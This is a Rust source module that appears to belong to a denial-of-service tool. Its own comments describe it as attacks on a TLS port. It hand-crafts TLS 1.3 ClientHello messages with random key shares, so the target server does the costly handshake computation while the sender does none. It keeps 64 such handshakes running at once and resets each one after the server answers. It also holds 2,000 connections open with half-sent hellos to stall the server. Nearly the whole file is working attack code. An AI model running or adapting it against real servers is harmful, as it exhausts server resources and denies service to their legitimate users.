//! Attacks on a port that speaks TLS: handshakes that nobody means to finish. Their first message is written by hand, so that an attacker
//! computes nothing of what it makes the server compute.

use crate::connections::{connect, reset};
use crate::target::{AttackRng, Target};
use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;

/// Handshakes that are under way at once.
const AT_ONCE: usize = 64;

/// The first message of a handshake of TLS 1.3 (RFC 8446, 4.1.2), with a share of X25519 that is as good as any: 32 bytes at random.
pub(crate) fn client_hello(chance: &mut AttackRng) -> Vec<u8> {
    let vector = |bytes: &[u8]| [&(bytes.len() as u16).to_be_bytes()[..], bytes].concat();
    let extension = |kind: u16, body: &[u8]| [&kind.to_be_bytes()[..], &vector(body)].concat();
    let share = [&[0x00, 0x1d][..], &vector(&chance.bytes(32))].concat();
    let extensions = [
        // supported_versions: 1.3. supported_groups: X25519. signature_algorithms: ECDSA on P-256, and RSA.
        extension(43, &[2, 0x03, 0x04]),
        extension(10, &vector(&[0x00, 0x1d])),
        extension(13, &vector(&[0x04, 0x03, 0x08, 0x04])),
        extension(51, &vector(&share)),
    ]
    .concat();
    let body = [
        &[0x03, 0x03][..],
        &chance.bytes(32),
        // No session to take up; TLS_AES_128_GCM_SHA256; no compression.
        &[0],
        &vector(&[0x13, 0x01]),
        &[1, 0],
        &vector(&extensions),
    ]
    .concat();
    let message = [&[1][..], &(body.len() as u32).to_be_bytes()[1..], &body].concat();
    [&[0x16, 0x03, 0x01][..], &vector(&message)].concat()
}

/// Begins handshakes as fast as the server takes them up, and goes when it has answered with its certificate.
pub(crate) fn hellos(target: &Target) -> String {
    let mut chance = target.rng();
    let begin = |chance: &mut AttackRng| -> Option<TcpStream> {
        let mut stream = connect(target)?;
        stream.write_all(&client_hello(chance)).ok()?;
        stream.set_nonblocking(true).ok()?;
        Some(stream)
    };
    let mut under_way: Vec<Option<TcpStream>> = (0..AT_ONCE).map(|_| begin(&mut chance)).collect();
    let (mut answered, mut sent_away, mut into) = (0_u64, 0_u64, vec![0; 4_096]);
    while target.is_active() {
        for place in &mut under_way {
            let Some(stream) = place else {
                *place = begin(&mut chance);
                continue;
            };
            match stream.read(&mut into) {
                Err(error) if error.kind() == ErrorKind::WouldBlock => continue,
                // A record of the handshake: the server has computed its part.
                Ok(came) if came > 0 && into[0] == 0x16 => answered += 1,
                _ => sent_away += 1,
            }
            if let Some(stream) = place.take() {
                reset(stream);
            }
        }
    }
    format!("{answered} handshakes computed, {sent_away} sent away")
}

/// Handshakes that begin and stop: 2,000 connections.
pub(crate) fn stalled_handshakes(target: &Target) -> String {
    let said = client_hello(&mut target.rng());
    crate::connections::hold(target, &crate::connections::connect_many(target, 2_000, &said[..said.len() / 2]))
}
